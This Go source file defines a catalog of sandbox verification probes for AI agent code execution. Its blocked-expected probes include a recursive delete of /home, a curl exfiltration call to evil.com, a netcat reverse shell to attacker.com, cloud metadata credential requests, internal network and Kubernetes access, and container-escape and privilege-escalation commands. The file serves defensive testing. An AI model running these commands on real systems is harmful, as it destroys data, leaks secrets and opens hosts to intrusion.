package verify

import (
	"fmt"
	"strings"
)

// Catalog returns the built-in probe catalog. It is assembled fresh on each
// call so callers can never mutate the shared definition.
func Catalog() []Category {
	return []Category{
		{
			Key:         "ai_agent",
			Title:       "AI Agent Code Execution Protection",
			Description: "Protect against malicious AI-generated code, prompt injection, and hallucinations",
			Probes: []Probe{
				{
					Name:        "Block recursive rm (AI hallucination)",
					Command:     `rm -rf /home 2>&1`,
					Expect:      ExpectBlocked,
					Description: "AI agent attempting destructive command",
				},
				{
					Name:        "Block data exfiltration",
					Command:     `curl -s https://evil.com/exfil 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prompt injection leading to data exfiltration",
				},
				{
					Name:        "Block reverse shell (nc)",
					Command:     `nc -e /bin/bash attacker.com 4444 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Malicious code attempting reverse shell",
				},
				{
					Name:        "Soft-delete protection",
					Command:     `touch /tmp/testfile && rm /tmp/testfile 2>&1; echo 'delete attempted'`,
					Expect:      ExpectSuccess,
					Description: "Single file deletes allowed (soft-delete in workspace)",
				},
			},
		},
		{
			Key:         "cloud_infra",
			Title:       "Cloud Infrastructure Protection",
			Description: "Prevent SSRF, credential theft, and lateral movement in cloud environments",
			Probes: []Probe{
				{
					Name:        "Block AWS metadata service",
					Command:     `curl -s --connect-timeout 2 http://169.254.169.254/latest/meta-data/ 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent SSRF to AWS instance metadata",
				},
				{
					Name:        "Block GCP metadata service",
					Command:     `curl -s --connect-timeout 2 -H 'Metadata-Flavor: Google' http://169.254.169.254/ 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent SSRF to GCP instance metadata",
				},
				{
					Name:        "Block internal network (10.x.x.x)",
					Command:     `curl -s --connect-timeout 2 http://10.0.0.1:8080/ 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent lateral movement to internal services",
				},
				{
					Name:        "Block internal network (172.16.x.x)",
					Command:     `curl -s --connect-timeout 2 http://172.16.0.1/ 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent lateral movement to private network",
				},
				{
					Name:        "Block Kubernetes API",
					Command:     `curl -sk --connect-timeout 2 https://kubernetes.default.svc/ 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent access to K8s control plane",
				},
			},
		},
		{
			Key:         "isolation",
			Title:       "Multi-Tenant Isolation",
			Description: "Prevent container escape, privilege escalation, and resource abuse",
			Probes: []Probe{
				{
					Name:        "Block sudo",
					Command:     `sudo whoami 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent privilege escalation via sudo",
				},
				{
					Name:        "Block su",
					Command:     `su - root -c whoami 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent privilege escalation via su",
				},
				{
					Name:        "Block nsenter (container escape)",
					Command:     `nsenter --target 1 --mount 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent escape to host namespace",
				},
				{
					Name:        "Block docker command",
					Command:     `docker ps 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent Docker-in-Docker abuse",
				},
				{
					Name:        "Block pkill (process control)",
					Command:     `pkill -9 bash 2>&1`,
					Expect:      ExpectBlocked,
					Description: "Prevent killing processes",
				},
			},
		},
		{
			Key:         "allowed",
			Title:       "Allowed Operations",
			Description: "Verify normal development operations work correctly",
			Probes: []Probe{
				{
					Name:        "Basic echo",
					Command:     `echo 'Hello from agentsh sandbox'`,
					Expect:      ExpectSuccess,
					Description: "Basic shell command",
				},
				{
					Name:        "List files",
					Command:     `ls -la /home`,
					Expect:      ExpectSuccess,
					Description: "File listing",
				},
				{
					Name:        "Git version",
					Command:     `git --version`,
					Expect:      ExpectSuccess,
					Description: "Git operations",
				},
				{
					Name:        "Bash execution",
					Command:     `bash -c 'echo $((1+1))'`,
					Expect:      ExpectSuccess,
					Description: "Bash code execution",
				},
				{
					Name:        "npm registry access",
					Command:     `curl -sI https://registry.npmjs.org/ 2>&1 | head -1`,
					Expect:      ExpectSuccess,
					Description: "Package registry access (allowed)",
				},
				{
					Name:        "agentsh version",
					Command:     `/usr/bin/agentsh --version`,
					Expect:      ExpectSuccess,
					Description: "agentsh is installed",
				},
			},
		},
	}
}

func CategoryKeys(cats []Category) []string {
	keys := make([]string, 0, len(cats))
	for _, cat := range cats {
		keys = append(keys, cat.Key)
	}
	return keys
}

// SelectCategories resolves a comma-separated key list against cats. An empty
// selection or "all" keeps everything in catalog order; otherwise the result
// follows selection order with duplicates collapsed.
func SelectCategories(cats []Category, selection string) ([]Category, error) {
	value := strings.TrimSpace(strings.ToLower(selection))
	if value == "" || value == "all" {
		return cats, nil
	}

	byKey := make(map[string]Category, len(cats))
	for _, cat := range cats {
		byKey[cat.Key] = cat
	}

	items := strings.Split(value, ",")
	selected := make([]Category, 0, len(items))
	seen := make(map[string]bool, len(items))
	for _, item := range items {
		key := strings.TrimSpace(item)
		if key == "" || seen[key] {
			continue
		}
		seen[key] = true
		cat, ok := byKey[key]
		if !ok {
			return nil, fmt.Errorf("unknown category %q (valid: %s)", key, strings.Join(CategoryKeys(cats), ", "))
		}
		selected = append(selected, cat)
	}
	return selected, nil
}

// ProbeCount is the number of probes across all of cats.
func ProbeCount(cats []Category) int {
	total := 0
	for _, cat := range cats {
		total += len(cat.Probes)
	}
	return total
}
